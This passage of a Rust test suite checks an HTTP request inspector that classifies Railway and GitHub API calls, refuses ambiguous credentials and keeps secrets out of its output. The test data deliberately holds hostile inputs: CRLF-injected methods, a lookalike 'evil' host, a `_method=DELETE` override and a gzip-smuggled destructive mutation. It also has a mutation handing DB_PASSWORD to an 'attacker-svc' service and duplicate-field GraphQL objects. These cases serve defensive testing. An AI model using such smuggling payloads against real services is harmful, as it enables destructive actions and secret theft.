            &[("content-type", ct)],
            b"_method=DELETE",
        );
        assert_unknown(&i, "method-override");
    }
    // a well-formed form without `_method` is fine
    let i = inspect("POST", GITHUB, path, &[form], b"reviewers=a&x=%C3%A9");
    assert_eq!(ops(&i), want(&[("pulls/request-reviewers", Write)]));
}

#[test]
fn methods_must_be_uppercase_tokens() {
    for m in [
        "delete",
        "Delete",
        "DELETE ",
        " DELETE",
        "DEL ETE",
        "",
        "DELETE\0",
        "ДЕЛЕТЕ",
        "GET\r\nX: y",
    ] {
        assert_unknown(
            &inspect(m, GITHUB, "/repos/o/r", &[], b""),
            "unknown-method",
        );
        assert_unknown(
            &inspect(m, RAILWAY, GQL, &[JSON], VOLUME_DELETE.as_bytes()),
            "unknown-method",
        );
    }
}

// ---------------------------------------------------------------------------
// Endpoints without a schema, hosts.

#[test]
fn graphql_endpoints_without_a_schema_are_unknown() {
    let body = json!({ "query": "{ me { id } }" }).to_string();
    let i = inspect(
        "POST",
        RAILWAY,
        "/graphql/internal",
        &[JSON],
        body.as_bytes(),
    );
    assert_eq!(i.endpoint, EndpointKind::Graphql);
    assert_unknown(&i, "unknown-endpoint");
    let i = inspect(
        "POST",
        "backboard.railway.app",
        "/graphql/internal?x=1",
        &[JSON],
        body.as_bytes(),
    );
    assert_unknown(&i, "unknown-endpoint");
    let i = inspect("GET", RAILWAY, "/graphql/internal/", &[], b"");
    assert_unknown(&i, "unknown-endpoint");
}

/// GitHub's `/graphql` is read from its schema (it was listed without one,
/// so unknown, before issue 15); what the schema does not have stays unknown.
#[test]
fn github_graphql_is_read_from_its_schema_and_nothing_else() {
    let body = json!({ "query": "{ me { id } }" }).to_string();
    for path in ["/graphql", "/GraphQL"] {
        let i = inspect("POST", GITHUB, path, &[JSON], body.as_bytes());
        assert_eq!(i.endpoint, EndpointKind::Graphql);
        assert_eq!(ops(&i).len(), 1, "{:#?}", i.operations);
        assert_eq!(ops(&i)[0].1, Unknown, "{:#?}", i.operations);
    }
    let body = json!({ "query": "{ viewer { login } }" }).to_string();
    let i = inspect("POST", GITHUB, "/graphql", &[JSON], body.as_bytes());
    assert_eq!(ops(&i), want(&[("viewer", Read)]));
    let body = json!({
        "query": "query Q($o: String!) { repository(owner: $o, name: \"Site\") { id } }",
        "variables": { "o": "ACME" }
    })
    .to_string();
    let i = inspect("POST", GITHUB, "/graphql", &[JSON], body.as_bytes());
    assert_eq!(ops(&i), want(&[("repository", Read)]));
    assert!(
        resources(&i).contains(&("repository".to_owned(), vec!["acme/site".to_owned()])),
        "{:?}",
        resources(&i)
    );
    // a mutation batched behind a query is read as the mutation it is
    let body = json!({
        "query": "query { viewer { login } } mutation M { x: deleteRef(input: {refId: \"R\"}) { clientMutationId } }",
        "operationName": "M"
    })
    .to_string();
    let i = inspect("POST", GITHUB, "/graphql", &[JSON], body.as_bytes());
    assert!(
        ops(&i).contains(&("deleteRef".to_owned(), Destructive)),
        "{:#?}",
        i.operations
    );
}

#[test]
fn hosts_are_matched_canonically() {
    for host in [
        "backboard.railway.com",
        "BACKBOARD.railway.COM",
        "backboard.railway.com.",
        "backboard.railway.com:443",
        "backboard.railway.app",
    ] {
        let i = inspect(
            "POST",
            host,
            GQL,
            &[JSON],
            json!({ "query": VOLUME_DELETE }).to_string().as_bytes(),
        );
        assert_eq!(i.provider.as_deref(), Some("railway"), "{host}");
        assert_eq!(ops(&i), want(&[("volumeDelete", Destructive)]), "{host}");
    }
    for host in [
        "example.com",
        "railway.com",
        "backboard.railway.com.evil",
        "xbackboard.railway.com",
        "",
    ] {
        let i = inspect(
            "POST",
            host,
            GQL,
            &[JSON],
            json!({ "query": VOLUME_DELETE }).to_string().as_bytes(),
        );
        assert_eq!(i.provider, None, "{host}");
        assert_eq!(i.endpoint, EndpointKind::NotProvider);
        assert!(i.operations.is_empty());
        assert_eq!(i.credential, PresentedCredential::None);
    }
}

// ---------------------------------------------------------------------------
// Credentials.

#[test]
fn two_different_credentials_are_ambiguous() {
    let body = json!({ "query": "{ me { id } }" }).to_string();
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[
            JSON,
            ("Authorization", b"Bearer tok-a"),
            ("Project-Access-Token", b"tok-b"),
        ],
        body.as_bytes(),
    );
    assert!(
        matches!(i.credential, PresentedCredential::Ambiguous { .. }),
        "{:?}",
        i.credential
    );
    // the operations are still read, so the refusal can name them
    assert_eq!(ops(&i), want(&[("me", Read)]));
    for headers in [
        &[
            ("Team-Access-Token", &b"tok-a"[..]),
            ("Project-Access-Token", b"tok-b"),
        ][..],
        &[
            ("authorization", b"Bearer tok-a"),
            ("authorization", b"Bearer tok-b"),
        ],
        &[("authorization", b"Bearer tok-a"), ("cookie", b"session=1")],
        &[("authorization", b"Token tok-a")],
        &[("authorization", b"Bearer")],
        &[("project-access-token", b" ")],
        &[("project-access-token", b"\xff")],
    ] {
        let i = inspect(
            "POST",
            RAILWAY,
            GQL,
            &[&[JSON][..], headers].concat(),
            body.as_bytes(),
        );
        assert!(
            matches!(i.credential, PresentedCredential::Ambiguous { .. }),
            "{headers:?}"
        );
    }
    // the same credential twice is one
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[
            JSON,
            ("Authorization", b"Bearer tok-a"),
            ("Project-Access-Token", b"tok-a"),
        ],
        body.as_bytes(),
    );
    assert!(
        matches!(&i.credential, PresentedCredential::One { location, .. } if location.to_string() == "authorization:bearer")
    );
    // GitHub: header and query parameter disagree
    let i = inspect(
        "GET",
        GITHUB,
        "/repos/o/r?access_token=tok-b",
        &[("authorization", b"token tok-a")],
        b"",
    );
    assert!(matches!(
        i.credential,
        PresentedCredential::Ambiguous { .. }
    ));
    let i = inspect(
        "GET",
        GITHUB,
        "/repos/o/r?access_token=tok-a",
        &[("authorization", b"token tok-a")],
        b"",
    );
    assert!(
        matches!(&i.credential, PresentedCredential::One { location, .. } if location.to_string() == "authorization:token")
    );
}

#[test]
fn the_credential_never_appears_in_the_inspection() {
    const SECRET: &str = "sk-SUPERSECRET-4f1c2e9a";
    let basic = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(format!("{SECRET}:x-oauth-basic"))
    };
    let bearer = format!("Bearer {SECRET}");
    let token = format!("token {SECRET}");
    let basic = format!("Basic {basic}");
    let bare = format!("{SECRET} trailing");
    let body = json!({ "query": "{ me { id } }" }).to_string();
    // provider, path, query string, headers
    type Case<'a> = (&'a str, &'a str, String, Vec<(&'a str, &'a [u8])>);
    let cases: Vec<Case<'_>> = vec![
        (
            "railway",
            GQL,
            String::new(),
            vec![("authorization", bearer.as_bytes())],
        ),
        (
            "railway",
            GQL,
            String::new(),
            vec![("project-access-token", SECRET.as_bytes())],
        ),
        (
            "railway",
            GQL,
            String::new(),
            vec![("team-access-token", SECRET.as_bytes())],
        ),
        // refused or ambiguous: the reason must not quote the secret either
        (
            "railway",
            GQL,
            String::new(),
            vec![("authorization", token.as_bytes())],
        ),
        (
            "railway",
            GQL,
            String::new(),
            vec![("authorization", bare.as_bytes())],
        ),
        (
            "railway",
            GQL,
            String::new(),
            vec![("authorization", SECRET.as_bytes())],
        ),
        (
            "railway",
            GQL,
            String::new(),
            vec![
                ("authorization", bearer.as_bytes()),
                ("project-access-token", b"other".as_slice()),
            ],
        ),
        (
            "railway",
            "/graphql/internal",
            String::new(),
            vec![("authorization", bearer.as_bytes())],
        ),
        (
            "github",
            "/repos/o/r",
            String::new(),
            vec![("authorization", token.as_bytes())],
        ),
        (
            "github",
            "/repos/o/r",
            String::new(),
            vec![("authorization", basic.as_bytes())],
        ),
        (
            "github",
            "/repos/o/r",
            format!("?access_token={SECRET}"),
            vec![],
        ),
        (
            "github",
            "/nope/nope",
            format!("?access_token={SECRET}"),
            vec![],
        ),
        (
            "github",
            "/repos/o/r",
            format!("?access_token={SECRET}&_method=GET"),
            vec![("authorization", b"token x".as_slice())],
        ),
    ];
    for (provider, path, query, mut headers) in cases {
        let host = if provider == "railway" {
            RAILWAY
        } else {
            GITHUB
        };
        let method = if provider == "railway" {
            "POST"
        } else {
            "DELETE"
        };
        headers.push(JSON);
        let target = format!("{path}{query}");
        let i = inspect(method, host, &target, &headers, body.as_bytes());
        assert_eq!(i.provider.as_deref(), Some(provider));
        assert!(
            !matches!(i.credential, PresentedCredential::None),
            "{target} {headers:?}"
        );
        // case-insensitively: a lowercased secret is still the secret
        let shown = format!("{i:?} {i:#?}").to_ascii_lowercase();
        assert!(
            !shown.contains("supersecret"),
            "the secret leaks for {target} {headers:?}: {shown}"
        );
    }
}

#[test]
fn data_after_the_end_of_a_compressed_stream_is_unknown() {
    // Most servers (Go, Node, Python, Java) decode every member of a
    // multi-member gzip body; a reader that stops after the first would let
    // the rest through unread. Here the second member continues the form
    // value: the server would read `query=query A{me{id}} mutation B{...}`.
    let form = ("content-type", &b"application/x-www-form-urlencoded"[..]);
    let first = gzip(b"query=query+A%7Bme%7Bid%7D%7D");
    let second = gzip(b"+mutation+B%7BvolumeDelete(volumeId%3A%22v%22)%7D&operationName=B");
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[form, ("content-encoding", b"gzip")],
        &first,
    );
    assert_eq!(ops(&i), want(&[("me", Read)]));
    let both = [first.clone(), second].concat();
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[form, ("content-encoding", b"gzip")],
        &both,
    );
    assert_unknown(&i, "unreadable-body");
    // trailing bytes that are not a gzip member
    let trailing = [first.clone(), b"&operationName=B".to_vec()].concat();
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[form, ("content-encoding", b"gzip")],
        &trailing,
    );
    assert_unknown(&i, "unreadable-body");
    // the same after a zlib stream and after a brotli stream
    let zlib = [deflate(b"query=%7Bme%7Bid%7D%7D"), b"&x".to_vec()].concat();
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[form, ("content-encoding", b"deflate")],
        &zlib,
    );
    assert_unknown(&i, "unreadable-body");
    let br = [brotli_stored(b"query=%7Bme%7Bid%7D%7D"), b"&x".to_vec()].concat();
    let i = inspect(
        "POST",
        RAILWAY,
        GQL,
        &[form, ("content-encoding", b"br")],
        &br,
    );
    assert_unknown(&i, "unreadable-body");
    // and on a REST route, where a form could carry `_method`
    let body = [gzip(b"a=1"), gzip(b"&_method=DELETE")].concat();
    let i = inspect(
        "POST",
        GITHUB,
        "/repos/o/r/pulls/1/requested_reviewers",
        &[form, ("content-encoding", b"gzip")],
        &body,
    );
    assert_unknown(&i, "unreadable-body");
}

/// GraphQL input coercion reads one value where a list belongs as a list
/// of one: an escalation on the list's elements must too, whether the value
/// is a literal or a variable.
#[test]
fn one_value_sent_for_a_list_escalates_like_a_list_of_one() {
    let field = |ids: &str| {
        format!(
            r#"mutation {{ sharedVariableConfigure(input: {{projectId: "p", environmentId: "prod", name: "DB_PASSWORD", enabledServiceIds: {ids}, disabledServiceIds: []}}) }}"#
        )
    };
    for ids in [r#""attacker-svc""#, r#"["attacker-svc"]"#] {
        let i = railway_doc(&field(ids), None);
        assert_eq!(
            ops(&i),
            want(&[("sharedVariableConfigure", Destructive)]),
            "enabledServiceIds: {ids}"
        );
    }
    let i = railway_doc(&field("[]"), None);
    assert_eq!(ops(&i), want(&[("sharedVariableConfigure", Write)]));
    let doc =
        "mutation ($in: SharedVariableConfigureInput!) { sharedVariableConfigure(input: $in) }";
    let i = railway_doc(
        doc,
        Some(
            json!({ "in": { "projectId": "p", "environmentId": "prod", "name": "DB_PASSWORD", "enabledServiceIds": "attacker-svc", "disabledServiceIds": [] } }),
        ),
    );
    assert_eq!(ops(&i), want(&[("sharedVariableConfigure", Destructive)]));
}

/// graphql-parser keeps the last of two same-named input fields; a server
/// may keep the first. A document whose input objects name a field twice
/// cannot be read one way only: it is unknown, wherever the object is.
#[test]
fn input_objects_that_name_a_field_twice_are_unknown() {
    for doc in [
        r#"mutation { volumeCreate(input: {projectId: "p", serviceId: "victim", serviceId: null}) { id } }"#,
        r#"mutation { volumeCreate(input: {projectId: "p", serviceId: null, serviceId: "victim"}) { id } }"#,
        r#"mutation ($i: VolumeCreateInput = {projectId: "p", serviceId: null, serviceId: "victim"}) { volumeCreate(input: $i) { id } }"#,
        r#"mutation { a: variableCollectionUpsert(input: {projectId: "p", environmentId: "e", variables: {A: "1"}, replace: false, replace: true}) }"#,
        "mutation { volumeCreate(input: {projectId: \"p\", serviceId: null # a comment\n , serviceId: \"victim\"}) { id } }",
    ] {
        let i = railway_doc(doc, None);
        assert_unknown(&i, "unreadable-graphql");
        assert!(
            i.operations[0]
                .note
                .as_deref()
                .unwrap_or("")
                .contains("twice"),
            "{doc}: {:?}",
            i.operations
        );
    }
    // the same name in sibling or nested objects, in selections and as a
    // value, is fine
    for doc in [
        r#"mutation { volumeCreate(input: {projectId: "p", environmentId: "e"}) { id projectId } }"#,
        r#"mutation { a: volumeCreate(input: {projectId: "p"}) { id } b: volumeCreate(input: {projectId: "q"}) { id } }"#,
        r#"mutation { environmentPatchCommit(environmentId: "e", patch: {services: {s: {services: 1}}}) }"#,
    ] {
        let i = railway_doc(doc, None);
        assert!(
            i.operations.iter().all(|o| o.class != Unknown),
            "{doc}: {:?}",
            i.operations
        );
    }
}
